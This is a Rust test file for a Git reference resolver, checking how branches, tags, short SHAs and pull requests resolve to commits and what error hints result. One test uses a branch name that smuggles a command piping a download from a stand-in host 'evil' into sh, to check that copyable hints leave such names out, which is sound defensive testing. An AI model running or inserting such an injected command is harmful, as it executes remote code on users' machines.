//! What a remote's answers mean, row by row.

use super::*;
use crate::resolve::{RefName, Way};

const A: &str = "aaaaaaa526f946222110fbdfb3d107c4b5a18fe7";
const B: &str = "bbbbbbb526f946222110fbdfb3d107c4b5a18fe7";
const D: &str = "deadbee526f946222110fbdfb3d107c4b5a18fe7";
const E: &str = "deadbee99999999999999999999999999999ffff";

fn commit(sha: &str) -> Commit {
    sha.parse().unwrap()
}

fn summaries(shas: &[&str]) -> Vec<CommitSummary> {
    shas.iter()
        .map(|sha| CommitSummary {
            commit: commit(sha),
            subject: format!("Change {}", &sha[..10]),
            author: "Ada".to_owned(),
        })
        .collect()
}

fn answer(branch: Option<&str>, tag: Option<&str>, commits: &[&str]) -> Answer {
    Answer {
        branch: branch.map(commit),
        tag: tag.map(commit),
        commits: summaries(commits),
        ..Answer::default()
    }
}

fn name(text: &str) -> RefName {
    RefName::parse(text).unwrap()
}

#[test]
fn each_answer_is_one_commit_or_nothing() {
    let branch = |text: &str| Named::Branch(name(text));
    let tag = |text: &str| Named::Tag(name(text));
    let none = || answer(None, None, &[]);
    let table = [
        (
            "a branch",
            "master",
            answer(Some(A), None, &[]),
            Some((A, branch("master"))),
        ),
        (
            "a tag",
            "v1",
            answer(None, Some(B), &[]),
            Some((B, tag("v1"))),
        ),
        ("nothing", "master", none(), None),
        (
            "one commit",
            "deadbee",
            answer(None, None, &[D]),
            Some((D, Named::Commit)),
        ),
        (
            "a branch of that very commit",
            "deadbee",
            answer(Some(D), None, &[D]),
            Some((D, branch("deadbee"))),
        ),
        (
            "a short word of a branch",
            "dead",
            answer(Some(A), None, &[D]),
            Some((A, branch("dead"))),
        ),
        (
            "an explicit branch beside a tag",
            "heads/x",
            answer(Some(A), Some(B), &[]),
            Some((A, branch("x"))),
        ),
        (
            "an explicit tag beside a branch",
            "tags/x",
            answer(Some(A), Some(B), &[]),
            Some((B, tag("x"))),
        ),
        (
            "an explicit branch spelt like a commit",
            "heads/deadbee",
            answer(Some(A), None, &[D]),
            Some((A, branch("deadbee"))),
        ),
        (
            "an explicit branch that is a tag only",
            "heads/x",
            answer(None, Some(B), &[]),
            None,
        ),
        (
            "a full SHA needs no answer",
            A,
            none(),
            Some((A, Named::Commit)),
        ),
        (
            "a full SHA that is also its own branch",
            A,
            answer(Some(A), None, &[]),
            Some((A, Named::Commit)),
        ),
        ("no pull request", "pull/1", none(), None),
    ];
    for (what, reference, answer, expected) in table {
        let reference: GitRef = reference.parse().unwrap();
        let expected = expected.map(|(sha, named)| (commit(sha), named));
        assert_eq!(decide(&reference, &answer), Ok(expected), "{what}");
    }
}

#[test]
fn a_pull_request_is_its_newest_commit() {
    let answer = Answer {
        pull: Some(commit(A)),
        ..Answer::default()
    };
    assert_eq!(
        decide(&GitRef::Pull(7), &answer),
        Ok(Some((commit(A), Named::Pull(7))))
    );
}

#[test]
fn whatever_could_be_two_commits_is_refused_with_both_and_how_to_write_them() {
    let table = [
        (
            "branch and tag",
            "x",
            answer(Some(A), Some(B), &[]),
            vec![A, B],
            vec!["heads/x", "tags/x"],
        ),
        (
            "branch and tag of one commit",
            "x",
            answer(Some(A), Some(A), &[]),
            vec![A],
            vec!["heads/x", "tags/x"],
        ),
        (
            "branch spelt like another commit",
            "deadbee",
            answer(Some(A), None, &[D]),
            vec![A, D],
            vec!["heads/deadbee", D],
        ),
        (
            "tag spelt like another commit",
            "deadbee",
            answer(None, Some(A), &[D]),
            vec![A, D],
            vec!["tags/deadbee", D],
        ),
        (
            "short SHA of two commits",
            "deadbee",
            answer(None, None, &[D, E]),
            vec![D, E, "Change deadbee526"],
            vec![D, E],
        ),
        (
            "branch named like a full SHA",
            A,
            answer(Some(B), None, &[]),
            vec![A, B],
            vec![A],
        ),
    ];
    for (what, reference, answer, told, spelt) in table {
        let reference: GitRef = reference.parse().unwrap();
        let ambiguity = decide(&reference, &answer).expect_err(what);
        let error = Error::from(ResolveError::Ambiguous {
            repository: "wantedly/rails".parse().unwrap(),
            reference,
            ambiguity,
        });
        assert_eq!(error.kind, Kind::NotFound, "{what}");
        for text in told {
            assert!(error.to_string().contains(text), "{what}: {error}");
        }
        for text in spelt {
            assert!(error.hints[0].contains(text), "{what}: {:?}", error.hints);
        }
    }
}

#[test]
fn commits_of_two_sources_are_listed_once() {
    let mut answer = answer(None, None, &[D]);
    answer.add_commits(summaries(&[D, E]));
    assert_eq!(answer.commits, summaries(&[D, E]));
}

#[test]
fn what_was_not_found_comes_with_its_clues() {
    let clues = Clues {
        near: vec!["master".to_owned()],
        is_only_local: true,
        renamed_to: Some("main".to_owned()),
        merged: Some(Merged {
            pull: 12,
            commit: commit(A),
        }),
        ..Clues::default()
    };
    let error = Error::from(ResolveError::NotFound {
        repository: "wantedly/rails".parse().unwrap(),
        reference: "masterr".parse().unwrap(),
        clues,
    });
    assert_eq!(error.kind, Kind::NotFound);
    assert_eq!(
        error.to_string(),
        "wantedly/rails has no branch or tag \"masterr\""
    );
    assert_eq!(
        error.hints,
        [
            "The branch exists only in this checkout: git push origin masterr".to_owned(),
            "The branch was renamed to main".to_owned(),
            format!("The branch was merged by pull request #12 as {A}"),
            "There is master".to_owned(),
        ]
    );
}

#[test]
fn a_command_to_copy_holds_no_name_that_a_shell_would_run() {
    let error = Error::from(ResolveError::NotPushed {
        repository: "wantedly/rails".parse().unwrap(),
        commit: commit(A),
        branch: Some("x;curl$IFS-evil|sh".to_owned()),
    });
    assert_eq!(error.kind, Kind::Refused);
    assert!(error.hints[0].ends_with("git push"), "{:?}", error.hints);
}

#[test]
fn when_every_way_failed_the_one_that_needs_the_reader_decides() {
    let failure = |kind| Failure {
        way: Way::GitHub {
            host: "github.com".to_owned(),
        },
        kind,
        text: "no".to_owned(),
        hints: vec!["Do it.".to_owned()],
        retry_after: None,
    };
    let table = [
        (vec![Kind::Unreachable], Kind::Unreachable),
        (vec![Kind::Unreachable, Kind::Denied], Kind::Denied),
        (vec![Kind::NotFound, Kind::Unreachable], Kind::NotFound),
        (vec![Kind::Denied, Kind::NotFound], Kind::Denied),
    ];
    for (kinds, expected) in table {
        let error = Error::from(ResolveError::Unanswered {
            repository: "wantedly/rails".parse().unwrap(),
            reference: "master".parse().unwrap(),
            known: None,
            failures: kinds.iter().copied().map(failure).collect(),
        });
        assert_eq!(error.kind, expected, "{kinds:?}");
        assert_eq!(error.hints.len(), 2, "{:?}", error.hints);
    }
}
